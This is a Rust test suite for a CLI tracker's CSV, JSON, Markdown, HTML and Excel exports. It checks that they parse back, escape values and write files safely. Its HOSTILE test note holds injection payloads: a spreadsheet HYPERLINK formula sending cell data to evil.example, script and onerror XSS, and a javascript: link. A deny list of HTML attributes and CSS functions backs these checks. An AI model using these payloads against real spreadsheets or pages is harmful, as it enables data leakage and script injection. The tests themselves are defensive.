//! Exports: every format parsed back by a real parser (csv, serde_json, zip + the sheet XML,
//! a strict HTML check and Chromium's own parser when it is installed), hostile notes kept
//! as text everywhere, atomic -o, the action plan, and snapshots of the Markdown and CSV.
//!
//! Snapshots live in tests/snapshots/; after a catalog change, `UPDATE_SNAPSHOTS=1 cargo test
//! export` rewrites them (then read the diff before committing it).

use crate::harness::Env;
use std::io::Read;
use std::path::Path;

/// A note meant to become a formula, markup, a broken table and a mangled encoding.
pub const HOSTILE: &str = "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"click me\") <script>alert('x')</script> <img src=x onerror=alert(1)> a | b ![t](http://evil.example/t.png) [l](javascript:alert(1)) *bold* `code` $x$ &amp; \\\nsecond line\r\nthird: Müller – 東京 😀 \u{202e}drowkcab";

/// The ids the seed and the full catalog both have.
const PARENT: &str = "intune.mdm-authority";
const CHILD: &str = "intune.mdm-authority.set";

/// Contoso on Intune: the child done with a formula-like note, the parent blocked with the
/// hostile note.
pub fn engagement() -> Env {
    let env = Env::new();
    env.init(&["--services", "intune"]);
    env.run(&["done", CHILD, "--note=-2+3 applied by @alice"])
        .ok();
    env.run(&["block", PARENT, "-m", HOSTILE]).ok();
    env
}

pub fn export(env: &Env, args: &[&str]) -> String {
    let mut all = vec!["export"];
    all.extend_from_slice(args);
    env.run(&all).ok().stdout
}

/// How many items the catalog has (every export lists them all without filters).
fn item_count(env: &Env) -> usize {
    env.run(&["items", "--json"])
        .ok()
        .json()
        .as_array()
        .unwrap()
        .len()
}

// ---------------------------------------------------------------------------------------------
// CSV

pub fn csv_records(text: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let mut r = csv::ReaderBuilder::new().from_reader(text.as_bytes());
    let header = r.headers().unwrap().iter().map(str::to_owned).collect();
    let rows = r
        .records()
        .map(|rec| rec.unwrap().iter().map(str::to_owned).collect())
        .collect();
    (header, rows)
}

pub fn column(header: &[String], name: &str) -> usize {
    header
        .iter()
        .position(|h| h == name)
        .unwrap_or_else(|| panic!("no column {name:?} in {header:?}"))
}

#[test]
fn csv_parses_back_and_no_cell_can_become_a_formula() {
    let env = engagement();
    let text = export(&env, &["--format", "csv"]);
    let (header, rows) = csv_records(&text);
    assert_eq!(
        header,
        [
            "Phase",
            "Section",
            "ID",
            "Title",
            "Owner",
            "Applies",
            "Why not",
            "Status",
            "Assignee",
            "Due date",
            "Next action",
            "Overdue",
            "Last change (UTC)",
            "Changed by",
            "Note"
        ]
    );
    assert_eq!(rows.len(), item_count(&env));
    let (id, note, status, when) = (
        column(&header, "ID"),
        column(&header, "Note"),
        column(&header, "Status"),
        column(&header, "Last change (UTC)"),
    );
    let parent = rows.iter().find(|r| r[id] == PARENT).unwrap();
    assert_eq!(parent[note], format!("'{HOSTILE}"), "kept whole, defused");
    assert_eq!(parent[status], "blocked");
    assert!(
        chrono::DateTime::parse_from_rfc3339(&parent[when]).is_ok() && parent[when].ends_with('Z'),
        "{}",
        parent[when]
    );
    let child = rows.iter().find(|r| r[id] == CHILD).unwrap();
    assert_eq!(child[note], "'-2+3 applied by @alice");
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell:?}"
            );
        }
    }
    assert!(text.contains("\r\n"), "RFC 4180 line ends");
}

#[test]
fn csv_keeps_a_100_kb_note_whole() {
    let env = Env::new();
    env.init(&["--services", "intune"]);
    let big: String = "Ünïcödé notes, long ones; ".repeat(4000);
    assert!(big.len() > 100_000);
    // Through standard input: a Windows command line holds only 32,767 UTF-16 units.
    env.cmd()
        .args(["note", PARENT, "-m", "-"])
        .stdin(big.as_str())
        .run()
        .ok();
    let (header, rows) = csv_records(&export(&env, &["--format", "csv"]));
    let row = rows.iter().find(|r| r[column(&header, "ID")] == PARENT);
    assert_eq!(row.unwrap()[column(&header, "Note")], big);
    let doc = json(&export(&env, &["--format", "json"]));
    assert_eq!(item(&doc, PARENT)["note"], big.as_str());
}

// ---------------------------------------------------------------------------------------------
// JSON

fn json(text: &str) -> serde_json::Value {
    serde_json::from_str(text).unwrap_or_else(|e| panic!("not JSON ({e}):\n{text}"))
}

fn item<'a>(doc: &'a serde_json::Value, id: &str) -> &'a serde_json::Value {
    doc["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["id"] == id)
        .unwrap_or_else(|| panic!("no item {id}"))
}

#[test]
fn json_is_one_document_with_the_header_and_the_rows() {
    let env = engagement();
    let doc = json(&export(&env, &["--format", "json"]));
    assert_eq!(doc["format"], "fasttrack-export");
    assert_eq!(doc["version"], 1);
    let h = &doc["header"];
    assert_eq!(h["customer"], "Contoso");
    assert_eq!(h["profile"]["services"], serde_json::json!(["intune"]));
    assert!(h["catalog"]["version"].is_string());
    let at = h["exported_at"].as_str().unwrap();
    assert!(chrono::DateTime::parse_from_rfc3339(at).is_ok() && at.ends_with('Z'));
    assert_eq!(h["view"], "items");
    assert!(h["overall"]["percent"].is_number());
    let enable = h["phases"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["id"] == "enable")
        .unwrap();
    assert_eq!(enable["blocked"], 1);
    assert_eq!(enable["done"], 1);
    assert_eq!(doc["items"].as_array().unwrap().len(), item_count(&env));
    let parent = item(&doc, PARENT);
    assert_eq!(parent["note"], HOSTILE);
    assert_eq!(parent["status"], "blocked");
    assert_eq!(parent["updated_by"], "tester");
    assert_eq!(parent["applicable"], true);
    assert_eq!(parent["not_applicable_reason"], serde_json::Value::Null);
    for key in [
        "phase",
        "phase_name",
        "section",
        "section_name",
        "title",
        "owner",
    ] {
        assert!(parent[key].is_string(), "{key}");
    }
}

#[test]
fn items_that_do_not_apply_say_why() {
    let env = Env::new();
    env.init(&["--services", "aad-premium"]);
    let doc = json(&export(&env, &["--format", "json"]));
    let parent = item(&doc, PARENT);
    assert_eq!(parent["applicable"], false);
    assert!(
        parent["not_applicable_reason"]
            .as_str()
            .unwrap()
            .contains("intune")
    );
}

// ---------------------------------------------------------------------------------------------
// Markdown

/// The cells of a GFM table line, split on unescaped pipes.
fn md_cells(line: &str) -> Vec<String> {
    assert!(
        line.starts_with("| ") && line.ends_with(" |"),
        "not a table line: {line:?}"
    );
    let inner = &line[1..line.len() - 1];
    let mut cells = vec![String::new()];
    let mut chars = inner.chars();
    while let Some(c) = chars.next() {
        match c {
            '\\' => {
                cells.last_mut().unwrap().push('\\');
                cells.last_mut().unwrap().extend(chars.next());
            }
            '|' => cells.push(String::new()),
            c => cells.last_mut().unwrap().push(c),
        }
    }
    cells.iter().map(|c| c.trim().to_owned()).collect()
}

/// What a Markdown renderer shows for an escaped cell: backslash escapes resolved, `<br>` a
/// line break. Fails on an unescaped character that would be markup.
fn md_unescape(cell: &str) -> String {
    let mut out = String::new();
    let mut rest = cell;
    while let Some(c) = rest.chars().next() {
        if let Some(after) = rest.strip_prefix("<br>") {
            out.push('\n');
            rest = after;
            continue;
        }
        assert!(
            !matches!(
                c,
                '<' | '>' | '[' | ']' | '|' | '`' | '*' | '_' | '&' | '$' | '~'
            ),
            "unescaped {c:?} in {cell:?}"
        );
        rest = &rest[c.len_utf8()..];
        if c == '\\' {
            let next = rest.chars().next().expect("a dangling backslash");
            out.push(next);
            rest = &rest[next.len_utf8()..];
        } else {
            out.push(c);
        }
    }
    out
}

#[test]
fn markdown_tables_are_well_formed_and_notes_stay_text() {
    let env = engagement();
    let md = export(&env, &["--format", "markdown"]);
    assert!(md.starts_with("# Contoso — "));
    assert!(md.contains("## Progress by phase"));
    let table: Vec<&str> = md
        .lines()
        .skip_while(|l| !l.starts_with("| Phase | Section |"))
        .take_while(|l| l.starts_with('|'))
        .collect();
    let header = md_cells(table[0]);
    assert_eq!(header.len(), 12);
    assert!(
        md_cells(table[1])
            .iter()
            .all(|c| c.chars().all(|c| c == '-' || c == ':'))
    );
    assert_eq!(table.len() - 2, item_count(&env));
    let note = header.iter().position(|h| h == "Note").unwrap();
    for line in &table[2..] {
        let cells = md_cells(line);
        assert_eq!(cells.len(), header.len(), "a cell broke the table: {line}");
        for c in &cells {
            if !c.starts_with('`') {
                md_unescape(c);
            }
        }
    }
    let parent = table
        .iter()
        .map(|l| md_cells(l))
        .find(|c| c[2] == format!("`{PARENT}`"))
        .unwrap();
    // Line breaks normalised to one kind; the bidi override shown escaped, like the terminal.
    let expected = HOSTILE
        .replace("\r\n", "\n")
        .replace('\u{202e}', "\\u{202e}");
    assert_eq!(md_unescape(&parent[note]), expected);
    for (i, _) in md.match_indices('<') {
        assert!(
            md[..i].ends_with('\\') || md[i..].starts_with("<br>"),
            "raw markup at {i}: {}",
            &md[i..(i + 40).min(md.len())]
        );
    }
    assert!(!md.contains("![t]("));
}

// ---------------------------------------------------------------------------------------------
// HTML

/// The only tags the page may hold: anything else came from data that escaped its escaping.
pub const TAGS: [&str; 39] = [
    "!DOCTYPE",
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "header",
    "p",
    "h1",
    "h2",
    "dl",
    "dt",
    "dd",
    "section",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "div",
    "span",
    "br",
    "footer",
    "figure",
    "figcaption",
    "svg",
    "line",
    "text",
    "polygon",
    "polyline",
    "circle",
    "details",
    "summary",
    "ul",
    "li",
    "strong",
    "em",
];

/// Every `<` opens (or closes) an allowed tag; every text run decodes cleanly.
pub fn check_html(html: &str) {
    for (i, _) in html.match_indices('<') {
        let tag = &html[i..i + html[i..].find('>').expect("an unclosed tag")];
        let lower = tag.to_ascii_lowercase();
        for attr in ["src=", "href=", "action=", "srcdoc="] {
            assert!(!lower.contains(attr), "{attr} in {tag}");
        }
        assert!(
            !lower
                .split_whitespace()
                .any(|w| w.starts_with("on") && w.contains('=')),
            "an event handler in {tag}"
        );
        let rest = html[i + 1..].trim_start_matches('/');
        let name: String = rest
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '!')
            .collect();
        assert!(
            TAGS.contains(&name.as_str()),
            "unexpected tag <{name}> at {i}: {}",
            &html[i..(i + 80).min(html.len())]
        );
    }
    let css = &html[html.find("<style>").unwrap() + 7..html.find("</style>").unwrap()];
    for bad in ["url(", "@import", "<", "expression("] {
        assert!(!css.contains(bad), "{bad} in the style sheet");
    }
}

fn html_unescape(s: &str) -> String {
    s.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&amp;", "&")
}

/// The note text of every `<td class="note">` cell, decoded (the time of the last change in
/// its `<span class="when">` left out).
pub fn html_notes(html: &str) -> Vec<String> {
    html.split("<td class=\"note\"")
        .skip(1)
        .map(|rest| {
            let rest = &rest[rest.find('>').unwrap() + 1..];
            let cell = &rest[..rest.find("</td>").unwrap()];
            let text = cell.split("<br><span class=\"when\">").next().unwrap();
            let text = text.split("<span class=\"when\">").next().unwrap();
            html_unescape(text)
        })
        .collect()
}

#[test]
fn html_is_self_contained_and_escapes_every_value() {
    let env = Env::new();
    env.run(&[
        "init",
        "--customer",
        "<b>Contoso</b> & Co",
        "--services",
        "intune",
    ])
    .ok();
    env.run(&["block", PARENT, "-m", HOSTILE]).ok();
    let html = export(&env, &["--format", "html"]);
    check_html(&html);
    assert!(html.contains("<h1>&lt;b&gt;Contoso&lt;/b&gt; &amp; Co</h1>"));
    assert!(html.contains("Content-Security-Policy"));
    // Blocked first, then the full table: the note shows twice, exactly as written.
    let notes = html_notes(&html);
    assert_eq!(notes.iter().filter(|n| *n == HOSTILE).count(), 2);
    let blocked = html.find("What we need from you").expect("a needs section");
    let all = html.find("Applicable items (").expect("the full table");
    assert!(blocked < all);
    assert!(html.contains("class=\"fill\" style=\"width: 0.0%\""));
}

// ---------------------------------------------------------------------------------------------
// Excel

pub fn unzip(path: &Path) -> std::collections::BTreeMap<String, String> {
    let mut zip = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
    (0..zip.len())
        .map(|i| {
            let mut f = zip.by_index(i).unwrap();
            let mut s = String::new();
            f.read_to_string(&mut s).unwrap();
            (f.name().unwrap().into_owned(), s)
        })
        .collect()
}

/// XML entities, then Excel's `_xHHHH_` escapes of control characters.
fn xml_unescape(s: &str) -> String {
    let s = html_unescape(s);
    let mut out = String::with_capacity(s.len());
    let mut rest = s.as_str();
    while let Some(at) = rest.find("_x") {
        out.push_str(&rest[..at]);
        let tail = &rest[at..];
        let code = tail
            .get(2..6)
            .filter(|_| tail.get(6..7) == Some("_"))
            .and_then(|h| u32::from_str_radix(h, 16).ok())
            .and_then(char::from_u32);
        match code {
            Some(c) => {
                out.push(c);
                rest = &tail[7..];
            }
            None => {
                out.push_str("_x");
                rest = &tail[2..];
            }
        }
    }
    out.push_str(rest);
    out
}

#[test]
fn xlsx_has_a_summary_and_an_items_sheet_and_no_formulas() {
    let env = engagement();
    let big: String = "x".repeat(100_000);
    // Through standard input: a Windows command line holds only 32,767 UTF-16 units.
    env.cmd()
        .args(["note", CHILD, "-m", "-"])
        .stdin(big.as_str())
        .run()
        .ok();
    env.run(&["export", "--format", "xlsx", "-o", "contoso.xlsx"])
        .ok()
        .stderr_has("contoso.xlsx");
    let files = unzip(&env.join("contoso.xlsx"));
    let workbook = &files["xl/workbook.xml"];
    assert!(workbook.contains("name=\"Summary\"") && workbook.contains("name=\"Items\""));
    let items = &files["xl/worksheets/sheet2.xml"];
    assert!(items.contains("state=\"frozen\""), "frozen header row");
    assert!(items.contains("<autoFilter ref=\"A1:O"), "autofilter");
    assert!(items.contains("<col "), "column widths");
    for (name, xml) in &files {
        assert!(
            !xml.contains("<f>") && !xml.contains("<f "),
            "a formula in {name}"
        );
    }
    assert!(files["xl/styles.xml"].contains("FFFFEBE9"), "blocked fill");
    // Notes are shared strings: the hostile one whole, the 100 KB one cut to Excel's limit.
    let strings: Vec<String> = files["xl/sharedStrings.xml"]
        .split("<t")
        .skip(1)
        .map(|s| {
            let body = &s[s.find('>').unwrap() + 1..];
            xml_unescape(&body[..body.find("</t>").unwrap_or(0)])
        })
        .collect();
    assert!(strings.iter().any(|s| s == HOSTILE));
    let cut = strings
        .iter()
        .find(|s| s.starts_with("xxxx"))
        .expect("the long note");
    assert!(cut.encode_utf16().count() <= 32_767);
    assert!(cut.contains("cut at Excel's cell limit"));
    let summary = &files["xl/worksheets/sheet1.xml"];
    assert!(summary.contains("<dataBar"), "progress bars");
}

#[test]
fn xlsx_needs_an_output_file() {
    let env = engagement();
    env.run(&["export", "--format", "xlsx"])
        .code(2)
        .stderr_has("-o FILE");
    env.run(&["export", "--format", "csv", "--force"])
        .code(2)
        .stderr_has("--force");
}

// ---------------------------------------------------------------------------------------------
// Action plan, filters

#[test]
fn the_action_plan_lists_open_items_blocked_first_with_columns_to_fill() {
    let env = Env::new();
    env.init(&["--services", "intune"]);
    env.run(&["block", CHILD, "-m", "waiting for licences"])
        .ok();
    let (header, rows) = csv_records(&export(&env, &["--format", "csv", "--open"]));
    assert_eq!(
        &header[header.len() - 3..],
        ["Customer owner", "Target date", "Comment"]
    );
    let id = column(&header, "ID");
    assert_eq!(rows[0][id], CHILD, "blocked first");
    assert!(rows.iter().any(|r| r[id] == PARENT));
    assert!(rows.iter().all(|r| r[column(&header, "Status")] != "done"));
    assert!(
        rows.iter()
            .all(|r| r[r.len() - 3..].iter().all(String::is_empty))
    );

    env.run(&["done", CHILD]).ok();
    let doc = json(&export(&env, &["--format", "json", "--open"]));
    assert_eq!(doc["header"]["view"], "action-plan");
    let ids: Vec<&str> = doc["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["id"].as_str().unwrap())
        .collect();
    assert!(!ids.contains(&CHILD) && ids.contains(&PARENT));
    let md = export(&env, &["--format", "markdown", "--open"]);
    assert!(md.contains("| Customer owner | Target date | Comment |"));
}

#[test]
fn filters_narrow_the_rows_but_not_the_progress() {
    let env = engagement();
    let doc = json(&export(&env, &["--format", "json", "--status", "blocked"]));
    let items = doc["items"].as_array().unwrap();
    assert_eq!(items.len(), 1);
    assert_eq!(items[0]["id"], PARENT);
    assert_eq!(doc["header"]["filters"]["status"], "blocked");
    assert_eq!(
        doc["header"]["overall"]["done"], 1,
        "progress is the engagement's"
    );
    let doc = json(&export(&env, &["--format", "json", "--phase", "enable"]));
    assert!(
        doc["items"]
            .as_array()
            .unwrap()
            .iter()
            .all(|i| i["phase"] == "enable")
    );
    env.run(&["export", "--format", "csv", "--phase", "nope"])
        .code(2)
        .stderr_has("unknown phase");
}

// ---------------------------------------------------------------------------------------------
// Writing files

#[test]
fn output_files_are_written_whole_and_replaced_only_with_force() {
    let env = engagement();
    env.run(&["export", "--format", "csv", "-o", "out.csv"])
        .ok()
        .stderr_has("out.csv");
    let first = env.read("out.csv");
    assert!(first.starts_with("Phase,"));
    env.write("out.csv", "precious");
    env.run(&["export", "--format", "markdown", "-o", "out.csv"])
        .code(1)
        .stderr_has("already exists");
    assert_eq!(env.read("out.csv"), "precious", "left untouched");
    env.run(&["export", "--format", "csv", "-o", "out.csv", "--force"])
        .ok();
    assert!(env.read("out.csv").starts_with("Phase,"));
    let names: Vec<String> = std::fs::read_dir(env.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert!(
        names.iter().all(|n| !n.ends_with(".tmp")),
        "a temp file was left: {names:?}"
    );
    env.run(&["export", "--format", "csv", "-o", "missing/out.csv"])
        .code(1)
        .stderr_has("does not exist");
}

#[cfg(unix)]
#[test]
fn output_files_get_the_users_umask() {
    use std::os::unix::fs::PermissionsExt;
    let env = engagement();
    for (umask, mode) in [("022", 0o644), ("077", 0o600)] {
        let name = format!("out-{umask}.json");
        let status = std::process::Command::new("sh")
            .arg("-c")
            .arg(format!(
                "umask {umask} && exec \"$0\" export --format json -o {name}"
            ))
            .arg(crate::harness::BIN)
            .current_dir(env.path())
            .env("FASTTRACK_USER", "tester")
            .env_remove("FASTTRACK_STATE")
            .env_remove("FASTTRACK_CATALOG")
            .output()
            .unwrap();
        assert!(status.status.success(), "{status:?}");
        let got = std::fs::metadata(env.join(&name))
            .unwrap()
            .permissions()
            .mode()
            & 0o777;
        assert_eq!(got, mode, "umask {umask}");
    }
}

// ---------------------------------------------------------------------------------------------
// Snapshots

/// Times (RFC 3339, or the local "2026-11-05 10:00 UTC+01:00") replaced by `<time>`.
fn normalise_times(s: &str) -> String {
    let b = s.as_bytes();
    let digits =
        |at: usize, n: usize| b.len() >= at + n && b[at..at + n].iter().all(u8::is_ascii_digit);
    let lit = |at: usize, t: &str| b.len() >= at + t.len() && &b[at..at + t.len()] == t.as_bytes();
    let mut out = String::with_capacity(s.len());
    let mut i = 0;
    while i < b.len() {
        let date = digits(i, 4)
            && lit(i + 4, "-")
            && digits(i + 5, 2)
            && lit(i + 7, "-")
            && digits(i + 8, 2)
            && (lit(i + 10, "T") || lit(i + 10, " "))
            && digits(i + 11, 2)
            && lit(i + 13, ":")
            && digits(i + 14, 2);
        if !date {
            let c = s[i..].chars().next().unwrap();
            out.push(c);
            i += c.len_utf8();
            continue;
        }
        i += 16;
        if lit(i, ":") && digits(i + 1, 2) {
            i += 3;
        }
        if lit(i, "Z") {
            i += 1;
        }
        if lit(i, " UTC") && (lit(i + 4, "+") || lit(i + 4, "-")) && digits(i + 5, 2) {
            i += 10;
        } else if lit(i, " UTC") {
            i += 4;
        } else if (lit(i, " +") || lit(i, " -")) && digits(i + 2, 2) && lit(i + 4, ":") {
            i += 7;
        }
        out.push_str("<time>");
    }
    out
}

fn snapshot(name: &str, actual: &str) {
    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/snapshots")
        .join(name);
    let actual = normalise_times(actual);
    if std::env::var_os("UPDATE_SNAPSHOTS").is_some_and(|v| v == "1") {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, &actual).unwrap();
        return;
    }
    let expected = std::fs::read_to_string(&path).unwrap_or_else(|e| {
        panic!(
            "{}: {e}; run `UPDATE_SNAPSHOTS=1 cargo test export` to write it",
            path.display()
        )
    });
    assert!(
        expected == actual,
        "{} differs; if the change is intended, run `UPDATE_SNAPSHOTS=1 cargo test export` and \
         read the diff\n--- expected\n{expected}\n--- actual\n{actual}",
        path.display()
    );
}

/// A fixed engagement: the same notes every time, only the times differ (normalised).
fn fixed() -> Env {
    let env = Env::new();
    env.init(&["--services", "intune"]);
    env.run(&["done", CHILD, "-m", "=SUM(A1:A9) set on the call | Müller"])
        .ok();
    env.run(&[
        "block",
        PARENT,
        "-m",
        "waiting for <the> customer's\nproxy change",
    ])
    .ok();
    env
}

#[test]
fn snapshot_markdown() {
    let env = fixed();
    snapshot("export.md", &export(&env, &["--format", "markdown"]));
    snapshot(
        "export-open.md",
        &export(&env, &["--format", "markdown", "--open"]),
    );
}

#[test]
fn snapshot_csv() {
    let env = fixed();
    snapshot("export.csv", &export(&env, &["--format", "csv"]));
}

#[test]
fn normalise_times_replaces_both_spellings() {
    assert_eq!(
        normalise_times(
            "a 2026-11-05T10:00:00Z b 2026-11-05 10:00 UTC+01:00 c 2026-11-05 d 2026-11-05 \
             10:00 UTC e 2026-11-05 10:00 +01:00 f"
        ),
        "a <time> b <time> c 2026-11-05 d <time> e <time> f"
    );
}
